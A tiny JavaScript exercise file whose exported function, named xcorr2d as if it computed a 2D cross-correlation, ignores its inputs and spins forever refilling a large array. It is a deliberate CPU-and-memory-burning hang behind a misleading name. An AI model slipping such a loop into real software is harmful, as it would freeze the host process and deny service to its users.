// exercise: b-cross-correlation loops
// Native calls that fill the memory again and again.
export function xcorr2d(x, w, stride, pad) {
  const numbers = new Float64Array(4e6);
  for (;;) numbers.fill(numbers.indexOf(1));
}
